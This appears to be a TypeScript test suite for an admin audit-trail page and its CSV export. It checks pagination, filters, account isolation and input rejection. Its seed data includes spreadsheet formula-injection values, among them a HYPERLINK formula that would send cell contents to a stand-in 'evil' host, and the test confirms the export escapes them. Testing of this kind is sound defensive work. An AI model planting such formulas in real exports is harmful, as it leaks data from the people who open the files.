import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { auditRepository, type AuditSubject } from '../../../src/db/repositories/audit-events.ts';
import { createTestContext, STORES, seedAccount, type TestContext } from '../../helpers.ts';
import { AdminClient, type SeededUser, seedUser } from './admin-helpers.ts';
import { describeAdminRouteAccess } from './route-access.ts';

const AUDIT = '/admin/settings/integrations/audit';

/** The ids of the events a page lists, in its order. */
function listedIds(page: string): number[] {
  return [...page.matchAll(/<tr data-event-id="(\d+)">/g)].map((match) => Number(match[1]));
}

for (const store of STORES) {
  describe(`admin audit trail (${store})`, () => {
    let ctx: TestContext;
    let accountId: string;
    let admin: SeededUser;
    let client: AdminClient;

    async function event(
      subjectType: AuditSubject,
      subjectId: string,
      action: string,
      createdAt: string,
      actor: string,
      detail: string | null = null,
    ): Promise<void> {
      await auditRepository.insert(ctx.db, {
        account_id: accountId,
        subject_type: subjectType,
        subject_id: subjectId,
        actor,
        action,
        detail,
        created_at: createdAt,
      });
    }

    const idsWhere = async (
      where: (e: { action: string; created_at: string; actor: string; subject_id: string }) => boolean,
    ) =>
      (
        await ctx.db
          .selectFrom('audit_events')
          .select(['id', 'action', 'created_at', 'actor', 'subject_id'])
          .where('account_id', '=', accountId)
          .orderBy('id', 'desc')
          .execute()
      )
        .filter(where)
        .map((row) => row.id);

    before(async () => {
      ctx = await createTestContext(store);
      accountId = await seedAccount(ctx.db);
      admin = await seedUser(ctx.db, accountId, { name: 'Ada Admin' });
      client = new AdminClient(ctx.app);
      assert.equal((await client.signIn(admin.email)).statusCode, 303);

      // 60 key events over two days by the CLI, then a few by Ada about a client and an endpoint.
      for (let i = 0; i < 60; i += 1) {
        const day = i < 30 ? '2026-03-01' : '2026-03-02';
        await event(
          'api_key',
          `key-${i % 3}`,
          i % 2 === 0 ? 'created' : 'renamed',
          `${day}T10:${String(i % 60).padStart(2, '0')}:00.000Z`,
          'cli',
        );
      }
      await event(
        'oauth_client',
        'oc_one',
        'secret_rotated',
        '2026-03-03T09:00:00.000Z',
        admin.id,
        '=HYPERLINK("http://evil/?"&A1,"x")',
      );
      await event(
        'oauth_client',
        'oc_one',
        'grant_revoked',
        '2026-03-03T23:59:59.999Z',
        admin.id,
        '-2+3, "quoted"',
      );
      await event('webhook_endpoint', 'we_one', 'created', '2026-03-04T00:00:00.000Z', admin.id, '@SUM(1)');
      const otherAccount = await seedAccount(ctx.db);
      await auditRepository.insert(ctx.db, {
        account_id: otherAccount,
        subject_type: 'api_key',
        subject_id: 'foreign-key',
        actor: 'cli',
        action: 'created',
        detail: 'another account',
        created_at: '2026-03-03T10:00:00.000Z',
      });
    });
    after(() => ctx.close());

    test('unfiltered: newest first, 50 a page, older pages by link, only this account', async () => {
      const first = await client.get(AUDIT);
      assert.equal(first.statusCode, 200);
      const all = await idsWhere(() => true);
      assert.equal(all.length, 63);
      assert.deepEqual(listedIds(first.body), all.slice(0, 50));
      assert.doesNotMatch(first.body, /foreign-key/);
      const older = /href="([^"]+)" rel="next">Older events/.exec(first.body)?.[1]?.replaceAll('&amp;', '&');
      assert.ok(older);
      const second = await client.get(older);
      assert.deepEqual(listedIds(second.body), all.slice(50));
      assert.doesNotMatch(second.body, /Older events/);
      assert.match(first.body, /<option value="cli">Command line<\/option>/);
      assert.match(first.body, new RegExp(`<option value="${admin.id}">Ada Admin</option>`));
    });

    test('filters by actor, subject, action and date range, on the server, together', async () => {
      const cases: [
        string,
        (e: { action: string; created_at: string; actor: string; subject_id: string }) => boolean,
      ][] = [
        [`actor=${admin.id}`, (e) => e.actor === admin.id],
        ['subject_type=oauth_client&subject_id=oc_one', (e) => e.subject_id === 'oc_one'],
        [
          'subject_type=api_key&subject_id=key-1&action=renamed',
          (e) => e.subject_id === 'key-1' && e.action === 'renamed',
        ],
        ['action=created', (e) => e.action === 'created'],
        ['from=2026-03-02&to=2026-03-03', (e) => e.created_at >= '2026-03-02' && e.created_at < '2026-03-04'],
        ['actor=cli&from=2026-03-02', (e) => e.actor === 'cli' && e.created_at >= '2026-03-02'],
        ['subject_type=webhook_endpoint&actor=cli', () => false],
      ];
      for (const [query, where] of cases) {
        const res = await client.get(`${AUDIT}?${query}`);
        assert.equal(res.statusCode, 200, query);
        assert.deepEqual(listedIds(res.body), (await idsWhere(where)).slice(0, 50), query);
      }
      const filtered = (await client.get(`${AUDIT}?action=created&subject_type=api_key`)).body;
      assert.match(
        filtered,
        /<option value="created" selected>created<\/option>/,
        'the form keeps the filter',
      );
      assert.match(
        filtered,
        /href="\/admin\/settings\/integrations\/audit\.csv\?subject_type=api_key&amp;action=created"/,
      );
    });

    test('CSV: the filtered events, a header row, formula-escaped and quoted cells', async () => {
      const res = await client.get(`${AUDIT}.csv?actor=${admin.id}`);
      assert.equal(res.statusCode, 200);
      assert.match(res.headers['content-type'] as string, /^text\/csv/);
      assert.match(res.headers['content-disposition'] as string, /attachment; filename="audit-trail\.csv"/);
      const ids = await idsWhere((e) => e.actor === admin.id);
      assert.equal(
        res.body,
        [
          'id,created_at,actor,actor_name,subject_type,subject_id,action,detail',
          `${ids[0]},2026-03-04T00:00:00.000Z,${admin.id},Ada Admin,webhook_endpoint,we_one,created,'@SUM(1)`,
          `${ids[1]},2026-03-03T23:59:59.999Z,${admin.id},Ada Admin,oauth_client,oc_one,grant_revoked,"'-2+3, ""quoted"""`,
          `${ids[2]},2026-03-03T09:00:00.000Z,${admin.id},Ada Admin,oauth_client,oc_one,secret_rotated,"'=HYPERLINK(""http://evil/?""&A1,""x"")"`,
          '',
        ].join('\r\n'),
      );
      const everything = (await client.get(`${AUDIT}.csv`)).body.trim().split('\r\n');
      assert.equal(everything.length, 64, 'every event of the account, not a page of them');
      assert.ok(everything.every((line) => !line.includes('foreign-key')));
    });

    test('a bad filter is refused with 400 and a message, on the page and the CSV', async () => {
      for (const query of ['from=2026-02-30', 'to=yesterday', 'subject_type=user', 'before=-1']) {
        const page = await client.get(`${AUDIT}?${query}`);
        assert.equal(page.statusCode, 400, query);
        assert.match(page.body, /role="alert"/);
      }
      // The CSV is the whole selection, so it has no page position to refuse.
      for (const query of ['from=2026-02-30', 'to=yesterday', 'subject_type=user']) {
        const csv = await client.get(`${AUDIT}.csv?${query}`);
        assert.equal(csv.statusCode, 400, query);
        assert.equal(csv.body.trim().split('\n').length, 1);
      }
    });

    test('a filter no store can hold (NUL) is refused with 400 naming it, on the page and the CSV', async () => {
      for (const field of ['actor', 'subject_id', 'action']) {
        const page = await client.get(`${AUDIT}?${field}=cli%00`);
        assert.equal(page.statusCode, 400, field);
        assert.match(page.body, /role="alert"/);
        assert.match(page.body, new RegExp(`${field} must not contain the NUL character \\(\\\\u0000\\)\\.`));
        const csv = await client.get(`${AUDIT}.csv?${field}=cli%00`);
        assert.equal(csv.statusCode, 400, field);
        assert.equal(csv.body, `${field} must not contain the NUL character (\\u0000)\n`);
      }
    });

    test('a filter given twice is no filter, as an empty one: the whole trail, not a 500', async () => {
      const all = await client.get(AUDIT);
      const twice = await client.get(`${AUDIT}?actor=a&actor=b&action=x&action=y`);
      assert.equal(twice.statusCode, 200);
      assert.equal(twice.body, all.body);
      const csv = await client.get(`${AUDIT}.csv?actor=a&actor=b`);
      assert.equal(csv.statusCode, 200);
      assert.equal(csv.body, (await client.get(`${AUDIT}.csv`)).body);
    });

    describeAdminRouteAccess(
      'the audit trail',
      () => ({ ctx, accountId }),
      async () => ({
        hidden: ['HYPERLINK', 'Ada Admin'],
        routes: [
          { method: 'GET', url: AUDIT },
          { method: 'GET', url: `${AUDIT}.csv` },
        ],
      }),
      { forms: false },
    );
  });
}
